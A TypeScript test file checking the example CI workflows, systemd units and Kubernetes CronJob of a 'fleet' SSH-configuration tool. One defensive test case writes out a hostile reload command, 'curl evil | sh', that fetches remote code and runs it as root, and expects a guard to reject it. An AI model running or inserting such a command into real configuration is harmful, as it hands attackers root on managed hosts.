/**
 * The examples in examples/ are copied into real CI systems, timers and clusters, so each is
 * checked for what makes it work: it parses, its structure is the one its platform reads, the
 * fleet command lines in it use commands and flags the real CLI has, the shard arithmetic
 * covers 1..N, and the policy they point at passes the real `fleet validate`. systemd units go
 * through `systemd-analyze verify`. (No JSON schema of GitHub Actions or Kubernetes is
 * available offline, so those two are checked field by field.)
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { parseAllDocuments } from 'yaml';
import { parseShard } from '../../src/core/shard.js';
import { CLI, fleet } from '../helpers/cli.js';

const EXAMPLES = fileURLToPath(new URL('../../examples/', import.meta.url));
const text = (rel: string): string => readFileSync(join(EXAMPLES, rel), 'utf8');

type Yaml = Record<string, unknown>;
const obj = (v: unknown): Yaml => {
  expect(typeof v === 'object' && v !== null && !Array.isArray(v), `expected a mapping, got ${JSON.stringify(v)}`).toBe(true);
  return v as Yaml;
};
const list = (v: unknown): unknown[] => {
  expect(Array.isArray(v), `expected a list, got ${JSON.stringify(v)}`).toBe(true);
  return v as unknown[];
};

/** Every document of a YAML file, failing on any parse error or warning. */
function yamlDocs(rel: string): Yaml[] {
  const docs = parseAllDocuments(text(rel));
  if (!Array.isArray(docs)) throw new Error(`${rel}: not a YAML stream`);
  for (const d of docs) expect([...d.errors, ...d.warnings].map((e) => e.message), rel).toEqual([]);
  return docs.map((d) => obj(d.toJS()));
}

/** A five-field cron line (minute hour day month weekday) with plain numbers, lists, ranges, steps. */
const CRON = /^(\*|[\d,*/-]+)( (\*|[\d,*/-]+)){4}$/;

/** Splits a shell command line into words (single and double quotes, no expansion). */
function words(line: string): string[] {
  const out: string[] = [];
  const re = /'([^']*)'|"((?:[^"\\]|\\.)*)"|(\S+)/g;
  let current = '';
  let last = 0;
  for (let m = re.exec(line); m !== null; m = re.exec(line)) {
    if (m.index > last && /\s/.test(line.slice(last, m.index)) && current) (out.push(current), (current = ''));
    current += m[1] ?? m[2] ?? m[3] ?? '';
    last = re.lastIndex;
  }
  if (current) out.push(current);
  return out;
}

/** The fleet invocations in a script: their words from the subcommand on. */
function fleetCalls(script: string): string[][] {
  const calls: string[][] = [];
  for (const line of script.split('\n')) {
    const w = words(line);
    const at = w.findIndex((x) => x === 'fleet' || x.endsWith('/fleet'));
    if (at >= 0 && (at === 0 || ['npx', 'exec'].includes(w[at - 1] ?? ''))) calls.push(w.slice(at + 1));
  }
  return calls;
}

/** The long and short flags `fleet <sub> --help` lists: what the real CLI accepts. */
const helpCache = new Map<string, Set<string>>();
function flagsOf(sub: string[]): Set<string> {
  const key = sub.join(' ');
  let flags = helpCache.get(key);
  if (!flags) {
    const help = execFileSync(process.execPath, [CLI, ...sub, '--help'], { encoding: 'utf8' });
    flags = new Set([...help.matchAll(/(?:^|[\s,])(--?[a-zA-Z][\w-]*)/gm)].map((m) => m[1] as string));
    helpCache.set(key, flags);
  }
  return flags;
}

const SUBCOMMANDS: Record<string, number> = { validate: 1, plan: 1, apply: 1, check: 1, report: 2 };

/** Asserts a fleet call names a real command and only flags that command has; returns its subcommand path. */
function expectRealCall(call: string[], where: string): string[] {
  const depth = SUBCOMMANDS[call[0] ?? ''];
  expect(depth, `${where}: "fleet ${call.join(' ')}" is not a fleet command`).toBeDefined();
  const sub = call.slice(0, depth);
  const known = flagsOf(sub);
  for (const word of call.slice(depth)) {
    if (!word.startsWith('-')) continue;
    const flag = word.split('=')[0] as string;
    expect(known.has(flag), `${where}: fleet ${sub.join(' ')} has no flag ${flag}`).toBe(true);
  }
  // Every example runs the one policy kept in examples/fleet/, which the real validate checks.
  // (apply --plan takes the reviewed plan instead, which holds that policy.)
  if (call[0] !== 'report' && !call.includes('--plan')) expect(call[1], `${where}: policy`).toMatch(/(^|\/)fleet\/keepalive\.yml$/);
  return sub;
}

const valueOf = (call: string[], ...flags: string[]): string | undefined => {
  const at = call.findIndex((w) => flags.includes(w));
  return at >= 0 ? call[at + 1] : undefined;
};

/** `${{ expr }}` of GitHub Actions replaced by the values a run would give. */
const expand = (script: string, values: Record<string, string>): string =>
  script.replace(/\$\{\{\s*([^}]+?)\s*\}\}/g, (_, expr: string) => {
    const v = values[expr];
    if (v === undefined) throw new Error(`no value for \${{ ${expr} }}`);
    return v;
  });

interface Step {
  name?: string;
  uses?: string;
  run?: string;
  if?: string;
  with?: Yaml;
  env?: Yaml;
}
const stepsOf = (job: unknown): Step[] => list(obj(job)['steps']).map((s) => obj(s) as Step);

describe('examples: the policy they run', () => {
  it('passes the real fleet validate', async () => {
    const run = await fleet(['validate', join(EXAMPLES, 'fleet/keepalive.yml')]);
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toMatch(/valid, 14 hosts selected/);
  });
});

describe('examples/github/fleet-plan.yml', () => {
  const [wf] = yamlDocs('github/fleet-plan.yml') as [Yaml];
  const steps = stepsOf(obj(wf['jobs'])['plan']);
  const runs = steps.filter((s) => s.run !== undefined).map((s) => expand(s.run as string, { 'github.event.pull_request.number': '7', 'secrets.FLEET_SSH_KEY': 'k', 'github.token': 't' }));

  it('runs on pull requests and may comment on them', () => {
    expect(Object.keys(obj(wf['on']))).toEqual(['pull_request']);
    expect(obj(wf['permissions'])['pull-requests']).toBe('write');
    expect(steps[0]?.uses).toMatch(/^actions\/checkout@v\d+$/);
  });

  it('validates, then plans as markdown into the file the comment step posts', () => {
    const calls = runs.flatMap(fleetCalls);
    const subs = calls.map((c, i) => expectRealCall(c, `fleet-plan.yml call ${i}`).join(' '));
    expect(subs).toEqual(['validate', 'plan']);
    const plan = calls[1] as string[];
    expect(valueOf(plan, '--format')).toBe('markdown');
    expect(plan).toContain('--no-progress');
    const out = valueOf(plan, '-o', '--out') as string;
    expect(out).toBeDefined();
    const comment = steps.find((s) => s.run?.includes('gh pr comment')) as Step;
    expect(comment.if).toContain(`hashFiles('${out}')`);
    expect(comment.if).toMatch(/always\(\)/);
    for (const call of fleetCalls(comment.run ?? '')) expect(call).toEqual([]);
    // Run the step's script with a stand-in `gh` that logs its calls and answers the comment
    // search with FOUND: a comment marked by fleet is edited in place, else one is created.
    const bin = mkdtempSync(join(tmpdir(), 'fleet-gh-'));
    writeFileSync(join(bin, 'gh'), `#!/bin/sh\necho "$*" >> "$LOG"\ncase "$*" in *"/comments --paginate"*) [ -n "$FOUND" ] && echo "$FOUND";; esac\nexit 0\n`, { mode: 0o755 });
    writeFileSync(join(bin, out), '## fleet plan\n');
    for (const found of ['4242', '']) {
      const log = join(bin, `log-${found || 'none'}`);
      const script = expand(comment.run as string, {});
      const res = spawnSync('bash', ['-e', '-c', script], { cwd: bin, encoding: 'utf8', env: { PATH: `${bin}:${process.env['PATH']}`, LOG: log, FOUND: found, PR: '7', GITHUB_REPOSITORY: 'o/r' } });
      expect(res.status, res.stderr).toBe(0);
      const calls = readFileSync(log, 'utf8').trim().split('\n');
      expect(calls[0]).toMatch(/^api repos\/o\/r\/issues\/7\/comments --paginate --jq .*startswith\("<!-- fleet-plan -->"\)/);
      expect(calls[1]).toBe(found ? 'api -X PATCH repos/o/r/issues/comments/4242 -F body=@comment.md' : 'pr comment 7 --body-file comment.md');
      expect(readFileSync(join(bin, 'comment.md'), 'utf8')).toBe('<!-- fleet-plan -->\n## fleet plan\n');
    }
    // The plan step passes on 0 (nothing to do) and 2 (changes pending), fails on 1.
    const planStep = steps.find((s) => s.run?.includes('fleet plan')) as Step;
    for (const [code, ok] of [[0, true], [2, true], [1, false]] as const) {
      // The step's own script, run as Actions runs it (bash -e), with fleet's exit code stood in.
      const script = (planStep.run as string).split('\n').map((l) => (l.includes('fleet plan') ? `(exit ${code})` : l)).join('\n');
      const res = spawnSync('bash', ['-e', '-c', script], { env: { PATH: process.env['PATH'], GITHUB_OUTPUT: '/dev/null' } });
      expect(res.status === 0, `plan exit ${code}`).toBe(ok);
    }
  });
});

describe('examples/github/fleet-plan.yml: commands run as root come from the base branch', () => {
  const [wf] = yamlDocs('github/fleet-plan.yml') as [Yaml];
  const steps = stepsOf(obj(wf['jobs'])['plan']);
  const guard = steps.find((s) => s.name === 'Commands run as root come from the base branch') as Step;
  const baseCheckout = steps.find((s) => s.uses?.startsWith('actions/checkout') && obj(s.with ?? {})['path'] === 'base');

  /** A workspace with the PR's fleet/ and the base branch's in base/fleet/, and fleet where npm ci puts it. */
  function workspace(base: string, head: string): string {
    const ws = mkdtempSync(join(tmpdir(), 'fleet-guard-'));
    for (const [dir, inventory] of [[join(ws, 'fleet'), head], [join(ws, 'base', 'fleet'), base]] as const) {
      mkdirSync(dir, { recursive: true });
      writeFileSync(join(dir, 'keepalive.yml'), 'inventory: inventory.yml\nsshd:\n  ClientAliveInterval: 298\n');
      writeFileSync(join(dir, 'inventory.yml'), inventory);
    }
    mkdirSync(join(ws, 'node_modules', '.bin'), { recursive: true });
    symlinkSync(CLI, join(ws, 'node_modules', '.bin', 'fleet'));
    mkdirSync(join(ws, 'tmp'));
    return ws;
  }
  const run = (ws: string): ReturnType<typeof spawnSync> =>
    spawnSync('bash', ['-e', '-c', guard.run as string], { cwd: ws, encoding: 'utf8', env: { PATH: process.env['PATH'], GITHUB_WORKSPACE: ws, RUNNER_TEMP: join(ws, 'tmp') } });
  const base = 'all:\n  hosts:\n    web1: { address: 192.0.2.1, sshd_reload_command: "systemctl reload ssh" }\n';

  it('checks out the base branch beside the PR', () => {
    expect(baseCheckout).toBeDefined();
    expect(obj(baseCheckout?.with ?? {})['ref']).toBe('${{ github.event.pull_request.base.sha }}');
    expect(steps.indexOf(guard)).toBeLessThan(steps.findIndex((s) => s.run?.includes('fleet plan')));
  });

  it('passes a PR that adds a host with the default commands or keeps the base\'s', () => {
    const res = run(workspace(base, `${base}    web2: { address: 192.0.2.2 }\n`));
    expect(res.status, String(res.stdout) + String(res.stderr)).toBe(0);
  });

  it('fails a PR that changes a reload command, adds one, or turns on become, naming the lines', () => {
    for (const head of [
      'all:\n  hosts:\n    web1: { address: 192.0.2.1, sshd_reload_command: "curl evil | sh" }\n',
      `${base}    web2: { address: 192.0.2.2, sshd_binary: /tmp/x }\n`,
      `${base}    web3: { address: 192.0.2.3, become: true, user: deploy }\n`,
    ]) {
      const res = run(workspace(base, head));
      expect(res.status).toBe(1);
      expect(String(res.stdout)).toMatch(/::error::this pull request changes what fleet runs as root/);
      expect(String(res.stdout)).toMatch(/^web\d\s+(reload|sshd|become)\s/m);
    }
  });
});

describe('examples/github/fleet-apply.yml', () => {
  const [plan] = yamlDocs('github/fleet-plan.yml') as [Yaml];
  const [wf] = yamlDocs('github/fleet-apply.yml') as [Yaml];
  const planSteps = stepsOf(obj(plan['jobs'])['plan']);
  const job = obj(obj(wf['jobs'])['apply']);
  const steps = stepsOf(job);

  it('the PR plan saves the plan and keeps it as the artifact this job downloads', () => {
    const planCall = planSteps.flatMap((s) => fleetCalls(s.run ?? '')).find((c) => c[0] === 'plan') as string[];
    const saved = valueOf(planCall, '--save-plan') as string;
    expect(saved).toBeDefined();
    const upload = planSteps.find((s) => s.uses?.startsWith('actions/upload-artifact@')) as Step;
    expect(obj(upload.with ?? {})['path']).toBe(saved);
    const download = steps.find((s) => s.uses?.startsWith('actions/download-artifact@')) as Step;
    expect(obj(download.with ?? {})['name']).toBe(obj(upload.with ?? {})['name']);
    expect(obj(download.with ?? {})['run-id']).toBeDefined();
  });

  it('runs only for a merged pull request and applies the downloaded plan, and nothing else', () => {
    expect(obj(obj(wf['on'])['pull_request'])['types']).toEqual(['closed']);
    expect(job['if']).toBe('github.event.pull_request.merged == true');
    const calls = steps.flatMap((s) => fleetCalls(s.run ?? ''));
    expect(calls.map((c, i) => expectRealCall(c, `fleet-apply.yml call ${i}`).join(' '))).toEqual(['apply']);
    const planCall = planSteps.flatMap((s) => fleetCalls(s.run ?? '')).find((c) => c[0] === 'plan') as string[];
    expect(valueOf(calls[0] as string[], '--plan')).toBe(valueOf(planCall, '--save-plan'));
    expect(calls[0]).not.toContain('fleet/keepalive.yml');
  });
});

describe('examples/github/fleet-drift.yml', () => {
  const [wf] = yamlDocs('github/fleet-drift.yml') as [Yaml];
  const jobs = obj(wf['jobs']);
  const check = obj(jobs['check']);
  const merge = obj(jobs['merge']);
  const shards = list(obj(obj(check['strategy'])['matrix'])['shard']);

  it('runs on a schedule, one matrix job per shard, every shard to the end', () => {
    const schedule = list(obj(wf['on'])['schedule']);
    expect(String(obj(schedule[0])['cron'])).toMatch(CRON);
    expect(obj(check['strategy'])['fail-fast']).toBe(false);
    expect(shards).toEqual(Array.from({ length: shards.length }, (_, i) => i + 1));
    expect(shards.length).toBeGreaterThan(1);
  });

  it('each job checks its own shard K/N; together they cover 1..N', () => {
    const seen: string[] = [];
    for (const k of shards) {
      const values = { 'matrix.shard': String(k), 'strategy.job-total': String(shards.length), 'secrets.FLEET_SSH_KEY': 'k' };
      const calls = stepsOf(check).flatMap((s) => (s.run ? fleetCalls(expand(s.run, values)) : []));
      expect(calls).toHaveLength(1);
      const call = calls[0] as string[];
      expect(expectRealCall(call, 'fleet-drift.yml check')).toEqual(['check']);
      expect(valueOf(call, '--format')).toBe('json');
      const shard = parseShard(valueOf(call, '--shard') as string);
      expect(shard.count).toBe(shards.length);
      seen.push(`${shard.index}/${shard.count}`);
      // The file the job writes is the one it uploads.
      const upload = stepsOf(check).find((s) => s.uses?.startsWith('actions/upload-artifact@')) as Step;
      expect(expand(String(obj(upload.with)['path']), values)).toBe(valueOf(call, '-o', '--out'));
    }
    expect(seen).toEqual(shards.map((k) => `${String(k)}/${shards.length}`));
  });

  it('a last job merges every uploaded report with fleet report merge, even after a failed shard', () => {
    expect(merge['needs']).toBe('check');
    expect(merge['if']).toBe('always()');
    const upload = stepsOf(check).find((s) => s.uses?.startsWith('actions/upload-artifact@')) as Step;
    const download = stepsOf(merge).find((s) => s.uses?.startsWith('actions/download-artifact@')) as Step;
    const pattern = String(obj(download.with)['pattern']);
    const uploadName = String(obj(upload.with)['name']);
    expect(new RegExp(`^${pattern.replace('*', '.*')}$`).test(uploadName.replace('${{ matrix.shard }}', '3'))).toBe(true);
    expect(obj(download.with)['merge-multiple']).toBe(true);
    const calls = stepsOf(merge).flatMap((s) => (s.run ? fleetCalls(s.run) : []));
    expect(calls.length).toBeGreaterThan(0);
    for (const call of calls) {
      expect(expectRealCall(call, 'fleet-drift.yml merge')).toEqual(['report', 'merge']);
      expect(call[2]).toBe(`${String(obj(download.with)['path'])}/*.json`);
    }
  });
});

describe('examples/systemd', () => {
  /** `[Section]` → key → values (a key may repeat), comments and blank lines skipped. */
  function ini(rel: string): Map<string, Map<string, string[]>> {
    const sections = new Map<string, Map<string, string[]>>();
    let current: Map<string, string[]> | undefined;
    for (const [i, raw] of text(rel).split('\n').entries()) {
      const line = raw.trim();
      if (line === '' || line.startsWith('#') || line.startsWith(';')) continue;
      const header = /^\[([A-Za-z]+)\]$/.exec(line);
      if (header) {
        current = new Map();
        sections.set(header[1] as string, current);
        continue;
      }
      const kv = /^([A-Za-z]+)=(.*)$/.exec(line);
      expect(kv && current, `${rel}:${i + 1}: not a key=value line in a section: ${line}`).toBeTruthy();
      const [, key, value] = kv as RegExpExecArray;
      current?.set(key as string, [...(current.get(key as string) ?? []), value as string]);
    }
    return sections;
  }
  const service = ini('systemd/fleet-check.service');
  const timer = ini('systemd/fleet-check.timer');
  const one = (s: Map<string, Map<string, string[]>>, section: string, key: string): string | undefined => s.get(section)?.get(key)?.[0];

  it('the service runs one fleet check to the end and keeps its report', () => {
    expect([...service.keys()]).toEqual(['Unit', 'Service']);
    expect(one(service, 'Service', 'Type')).toBe('oneshot');
    const exec = service.get('Service')?.get('ExecStart') ?? [];
    expect(exec).toHaveLength(1);
    const call = fleetCalls(exec[0] as string)[0] as string[];
    expect(expectRealCall(call, 'fleet-check.service')).toEqual(['check']);
    expect(valueOf(call, '-o', '--out')).toMatch(new RegExp(`^/var/lib/${one(service, 'Service', 'StateDirectory')}/`));
    expect(valueOf(call, '--identity')).toBe(`%d/${one(service, 'Service', 'LoadCredential')?.split(':')[0]}`);
    // Exit 2 (drift) must fail the unit: nothing may list it as success.
    expect(service.get('Service')?.has('SuccessExitStatus')).toBe(false);
  });

  it('after every check (drift and failure too) the report becomes a .prom file in a folder the unit may write', () => {
    const post = service.get('Service')?.get('ExecStopPost') ?? [];
    expect(post).toHaveLength(1);
    const call = fleetCalls(post[0] as string)[0] as string[];
    expect(expectRealCall(call, 'fleet-check.service ExecStopPost')).toEqual(['report', 'merge']);
    const exec = fleetCalls((service.get('Service')?.get('ExecStart') ?? [])[0] as string)[0] as string[];
    expect(call[2]).toBe(valueOf(exec, '-o', '--out'));
    expect(valueOf(call, '--format')).toBe('openmetrics');
    const prom = valueOf(call, '-o', '--out') as string;
    expect(prom).toMatch(/\.prom$/);
    expect(service.get('Service')?.get('ReadWritePaths')).toContain(prom.slice(0, prom.lastIndexOf('/')));
  });

  it('the timer starts that service daily and is enabled by timers.target', () => {
    expect([...timer.keys()]).toEqual(['Unit', 'Timer', 'Install']);
    expect(one(timer, 'Timer', 'Unit')).toBe('fleet-check.service');
    expect(one(timer, 'Timer', 'OnCalendar')).toBeDefined();
    expect(one(timer, 'Timer', 'Persistent')).toBe('true');
    expect(one(timer, 'Install', 'WantedBy')).toBe('timers.target');
  });

  it.runIf(existsSync('/usr/bin/systemd-analyze'))('systemd-analyze verify accepts both units without a warning', () => {
    const dir = mkdtempSync(join(tmpdir(), 'fleet-units-'));
    // verify insists the binary exists; the units name where a user installs fleet.
    const bin = join(dir, 'fleet');
    writeFileSync(bin, '#!/bin/sh\n');
    chmodSync(bin, 0o755);
    copyFileSync(join(EXAMPLES, 'systemd/fleet-check.timer'), join(dir, 'fleet-check.timer'));
    writeFileSync(join(dir, 'fleet-check.service'), text('systemd/fleet-check.service').replaceAll('/usr/local/bin/fleet', bin));
    const res = spawnSync('systemd-analyze', ['verify', '--man=no', join(dir, 'fleet-check.timer'), join(dir, 'fleet-check.service')], { encoding: 'utf8' });
    expect(res.status, res.stderr).toBe(0);
    expect(res.stderr.trim()).toBe('');
    const calendar = spawnSync('systemd-analyze', ['calendar', one(timer, 'Timer', 'OnCalendar') as string], { encoding: 'utf8' });
    expect(calendar.status, calendar.stderr).toBe(0);
    rmSync(dir, { recursive: true, force: true });
  });
});

describe('examples/kubernetes/fleet-cronjob.yaml', () => {
  const docs = yamlDocs('kubernetes/fleet-cronjob.yaml');
  const cron = docs.find((d) => d['kind'] === 'CronJob') as Yaml;
  const spec = obj(cron?.['spec']);
  const jobSpec = obj(obj(spec['jobTemplate'])['spec']);
  const pod = obj(obj(jobSpec['template'])['spec']);
  const container = obj(list(pod['containers'])[0]);
  const env = new Map(list(container['env']).map((e) => [String(obj(e)['name']), obj(e)]));

  it('is a batch/v1 CronJob of an Indexed Job with one pod per shard', () => {
    expect(cron['apiVersion']).toBe('batch/v1');
    expect(String(spec['schedule'])).toMatch(CRON);
    expect(spec['concurrencyPolicy']).toBe('Forbid');
    expect(jobSpec['completionMode']).toBe('Indexed');
    const shards = Number(env.get('SHARDS')?.['value']);
    expect(shards).toBeGreaterThan(1);
    expect(jobSpec['completions']).toBe(shards);
    expect(jobSpec['parallelism']).toBe(shards);
    // backoffLimitPerIndex and podFailurePolicy both require restartPolicy Never.
    expect(pod['restartPolicy']).toBe('Never');
    const rule = obj(list(obj(jobSpec['podFailurePolicy'])['rules'])[0]);
    expect(obj(rule['onExitCodes'])['containerName']).toBe(container['name']);
    expect(obj(rule['onExitCodes'])['values']).toEqual([2]);
    expect(obj(obj(env.get('JOB_NAME')?.['valueFrom'])['fieldRef'])['fieldPath']).toBe("metadata.labels['batch.kubernetes.io/job-name']");
  });

  it('pod K of N runs fleet check --shard K/N into its own report file on a mounted volume', () => {
    const [shell, flag] = list(container['command']) as string[];
    expect(flag).toBe('-c');
    const script = String(list(container['args'])[0]);
    // Run the pod's real shell script with a `fleet` that only prints its arguments, so the
    // shell arithmetic and quoting are what a pod would execute.
    const dir = mkdtempSync(join(tmpdir(), 'fleet-pod-'));
    writeFileSync(join(dir, 'fleet'), '#!/bin/sh\nprintf "%s\\n" "$@"\n');
    chmodSync(join(dir, 'fleet'), 0o755);
    const shards = Number(env.get('SHARDS')?.['value']);
    const mounts = list(container['volumeMounts']).map((m) => String(obj(m)['mountPath']));
    const volumes = new Set(list(pod['volumes']).map((v) => String(obj(v)['name'])));
    for (const m of list(container['volumeMounts'])) expect(volumes.has(String(obj(m)['name']))).toBe(true);
    const seen: string[] = [];
    const outputs = new Set<string>();
    for (let index = 0; index < shards; index++) {
      const out = execFileSync(existsSync(shell as string) ? (shell as string) : 'sh', ['-c', script], {
        encoding: 'utf8',
        env: { PATH: `${dir}:/usr/bin:/bin`, JOB_COMPLETION_INDEX: String(index), SHARDS: String(shards), JOB_NAME: 'fleet-drift-check-2900000' },
      });
      const call = out.trimEnd().split('\n');
      expect(expectRealCall(call, 'fleet-cronjob.yaml')).toEqual(['check']);
      seen.push(valueOf(call, '--shard') as string);
      const report = valueOf(call, '-o', '--out') as string;
      outputs.add(report);
      for (const path of [report, valueOf(call, '--known-hosts'), valueOf(call, '--identity'), call[1]]) {
        expect(mounts.some((m) => path?.startsWith(`${m}/`)), `${path} is on no volume`).toBe(true);
      }
    }
    expect(seen.map((s) => parseShard(s)).map((s) => `${s.index}/${s.count}`)).toEqual(Array.from({ length: shards }, (_, i) => `${i + 1}/${shards}`));
    expect(outputs.size).toBe(shards);
    rmSync(dir, { recursive: true, force: true });
  });
});
